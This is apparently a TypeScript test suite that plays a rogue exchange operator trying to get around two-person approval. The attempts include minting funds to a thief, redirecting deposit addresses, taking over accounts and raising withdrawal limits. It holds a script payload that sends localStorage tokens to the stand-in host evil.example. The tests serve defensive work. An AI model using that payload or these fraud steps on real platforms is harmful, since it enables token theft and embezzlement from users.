import { operatorCalls } from '@plimsoll/contract/operator';
import { TWO_OPERATOR_SETTINGS } from '@plimsoll/contract/operator/settings';
import type { Attempt, Role } from '../attempt.ts';
import { byTwo, type OperatorUser } from '../operator-user.ts';
import { ADDRESSES, operatorId, type Scene } from '../scene.ts';
import type { Reply } from '../wire.ts';
import { listOf } from '../../support/json.ts';

const SCRIPT = 'fetch("//evil.example?" + localStorage.token)';
const SOCK = { username: 'sock@evil.example', email: 'sock@evil.example', role: 'owner' } as const;
const PASSWORD = 'Out of the deep, at dusk';
const FORTUNE = '50000000';
const AT_ONCE = 8;

/** Proposes something and tries to approve it alone in every way, also many times at once. */
async function alone(operator: OperatorUser, method: string, path: string, body: object): Promise<Reply[]> {
  const asked = await operator.ask(method, path, body);
  const again = await byTwo([operator, operator], method, path, body);
  const { body: open } = await operator.ask('GET', '/proposals?status=1&limit=100');
  const approvals = await Promise.all(
    listOf(open?.['list'])
      .slice(0, AT_ONCE)
      .map(({ id }) => operator.ask('POST', `/proposals/${String(id)}/approve`, { remark: 'mine' })),
  );
  return [asked, again, ...approvals];
}

/** Values useful to a thief, of settings that need two operators. */
const SETTINGS: Readonly<Record<(typeof TWO_OPERATOR_SETTINGS)[number], unknown>> = {
  four_eyes_threshold: '999999999',
  spot_fee: '0.05',
  exchange_spread: '0.05',
  traders_password_switch: 0,
  identity_for_withdrawal: 1,
  fresh_seconds: 60,
  depth_recovery: 1,
  price_band: '0.9',
  spot_position_limit: '999999999',
  spot_member_minute_limit: '999999999',
  line_delay: 10_000,
  mark_band: '0.05',
  options_net_limit: '999999999',
  options_member_limit: '999999999',
  daily_limit_uncertified: '999999999',
  daily_limit_certified: '999999999',
};

const first = async ({ anna }: Scene, resource: string): Promise<string> =>
  String(listOf((await anna.obtain('GET', `/${resource}?limit=1`))['list'])[0]?.['id']);

const attempts: readonly Attempt[] = [
  {
    name: 'makes a second owner of her own, and logs in as them',
    async run({ anna, wire }) {
      const replies = [
        ...(await alone(anna, 'POST', '/operators', SOCK)),
        await anna.ask('POST', '/operators', { ...SOCK, password: PASSWORD }),
      ];
      const entered = await wire.send('/operator/api/session', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ username: SOCK.username, password: PASSWORD }),
      });
      return [...replies, entered];
    },
  },
  {
    name: 'takes over another operator: address, password, factor, a reset',
    async run(scene) {
      const path = `/operators/${await operatorId(scene, scene.tess)}`;
      const { anna } = scene;
      return [
        ...(await alone(anna, 'PATCH', path, { email: 'anna@evil.example' })),
        await anna.ask('PATCH', path, { password: PASSWORD, totp: 0 }),
        ...(await alone(anna, 'POST', `${path}/reset`, { remark: 'lost' })),
      ];
    },
  },
  {
    name: 'promotes a clerk to an owner',
    run: async (scene) =>
      alone(scene.anna, 'PATCH', `/operators/${await operatorId(scene, scene.carl)}`, { role: 'owner' }),
  },
  {
    name: 'posts a correction of 50 million to a thief',
    run: ({ anna, thief, usdt }) =>
      alone(anna, 'POST', '/corrections', {
        member_id: Number(thief.id),
        type: 1,
        c_id: Number(usdt),
        amount: FORTUNE,
        remark: 'mine',
      }),
  },
  {
    name: 'posts 50 million to the platform’s rewards',
    run: ({ anna, usdt }) =>
      alone(anna, 'POST', '/house-postings', {
        account: 'rewards',
        c_id: Number(usdt),
        amount: FORTUNE,
        remark: 'mine',
      }),
  },
  {
    name: 'has deposits paid to an address of her own, by a change and by a new network',
    run: async ({ anna, usdt, network }) => [
      ...(await alone(anna, 'PATCH', `/networks/${network}`, { address: ADDRESSES.thief })),
      ...(await alone(anna, 'POST', '/networks', {
        c_id: Number(usdt),
        pay_type: 1,
        coin_net: 'TRC20 fast',
        address: ADDRESSES.thief,
      })),
    ],
  },
  {
    name: 'changes each setting that limits what leaves, each fee, each switch',
    run: async ({ anna }) =>
      (
        await Promise.all(
          TWO_OPERATOR_SETTINGS.map((name) => anna.ask('PATCH', '/settings', { [name]: SETTINGS[name] })),
        )
      ).concat(await alone(anna, 'PATCH', '/settings', SETTINGS)),
  },
  {
    name: 'sets fees and bounds of coins and markets, and option terms that always pay',
    run: async (scene) => [
      ...(await alone(scene.anna, 'PATCH', `/coins/${scene.usdt}`, { txmaxnum: '999999999', txsxf: '0' })),
      ...(await alone(scene.anna, 'PATCH', `/markets/${await first(scene, 'markets')}`, {
        spot_fee: '0',
        max_jump: '0.9',
      })),
      ...(await alone(scene.anna, 'POST', '/option-terms', { seconds: 7, min: '1', max: '100000', rate: '5' })),
    ],
  },
  {
    name: 'opens a market of two coins at the price of another symbol',
    run: ({ anna }) => {
      const pair = { base: 'BTC', quote: 'ETH', min: '0.0001', step: '0.0001', price_step: '0.0001' };
      return alone(anna, 'POST', '/markets', { ...pair, symbol: 'dogebtc' });
    },
  },
  {
    name: 'has a page script served to every member',
    run: async ({ anna, wire }) => {
      const replies = await alone(anna, 'POST', '/scripts', { content: SCRIPT });
      const served = await wire.send('/custom-script.js');
      if (served.text.includes('evil.example')) wire.faults.push('a script that one owner wrote is served');
      return [...replies, served];
    },
  },
  {
    name: 'credits 900 million on a claim of 1',
    run: async ({ anna, thief, usdt, network }) =>
      alone(anna, 'POST', `/recharges/${await thief.claim(usdt, network, '1', 30)}/approve`, {
        amount: '900000000',
        remark: '',
      }),
  },
  {
    name: 'resets a member’s second factors',
    run: async (scene) =>
      alone(scene.anna, 'POST', `/members/${scene.spare.id}/reset-factors`, { remark: 'lost the phone' }),
  },
  {
    name: 'thaws alone what a member froze, twice and at once',
    run: async ({ anna, spare }) => {
      const path = `/members/${spare.id}/unfreeze`;
      await spare.login().catch(() => undefined);
      const frozen = await spare.ask('freezeMe');
      return [
        frozen,
        ...(await alone(anna, 'POST', path, { remark: 'called' })),
        ...(await Promise.all([1, 2, 3].map(() => anna.ask('POST', path, { remark: 'called' })))),
      ];
    },
    own: /^state of spare@/,
    judge: (_before, after, { spare }) =>
      after.get(`state of ${spare.email}`) === 'true' ? [] : ['one operator alone thawed what a member froze'],
  },
  {
    name: 'reads every list and everything in it, for secrets',
    async run({ anna }) {
      const gets = operatorCalls.filter(({ method, path }) => method === 'GET' && !path.includes('{id}'));
      const replies = await Promise.all(gets.map(({ path }) => anna.ask('GET', path)));
      const single = await Promise.all(
        gets.flatMap(({ path }, at) => {
          const list = listOf(replies[at]?.body?.['list']);
          const reads = operatorCalls.some((call) => call.method === 'GET' && call.path === `${path}/{id}`);
          return reads ? list.slice(0, 5).map(({ id }) => anna.ask('GET', `${path}/${String(id)}`)) : [];
        }),
      );
      return [...replies, ...single];
    },
  },
];

export const owner: Role = { name: 'one owner', attempts };

/** The same by both owners: since these thefts are detected, those of one owner would be. */
export const bothOwners: Role = {
  name: 'both owners in one hand',
  attempts: [
    {
      name: 'make a third owner',
      run: async ({ anna, bert }) => [await byTwo([anna, bert], 'POST', '/operators', SOCK)],
    },
    {
      name: 'have deposits paid to the thief',
      run: async ({ anna, bert, network }) => [
        await byTwo([bert, anna], 'PATCH', `/networks/${network}`, { address: ADDRESSES.thief }),
      ],
    },
    {
      name: 'post a correction to the thief',
      run: async ({ anna, bert, thief, usdt }) => [
        await byTwo([anna, bert], 'POST', '/corrections', {
          member_id: Number(thief.id),
          type: 1,
          c_id: Number(usdt),
          amount: '900',
          remark: 'ours',
        }),
      ],
    },
    {
      name: 'see a secret',
      async run({ wire, thief }) {
        wire.keep('a planted word', 'TRC20');
        return [await thief.ask('getrecharge')];
      },
    },
  ],
};
